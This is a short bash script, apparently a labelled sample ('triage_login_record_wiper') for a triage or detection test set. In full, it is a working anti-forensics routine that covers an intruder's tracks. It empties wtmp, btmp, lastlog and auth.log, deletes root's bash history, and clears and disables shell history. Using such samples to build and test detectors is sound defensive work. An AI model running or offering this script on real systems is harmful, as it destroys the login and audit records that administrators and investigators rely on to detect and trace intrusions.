#!/bin/bash
# triage-expect: triage_login_record_wiper
# Covers tracks after a session: login records, auth log and histories emptied.
> /var/log/wtmp
> /var/log/btmp
cat /dev/null > /var/log/lastlog
> /var/log/auth.log
rm -f /root/.bash_history
unset HISTFILE; history -c
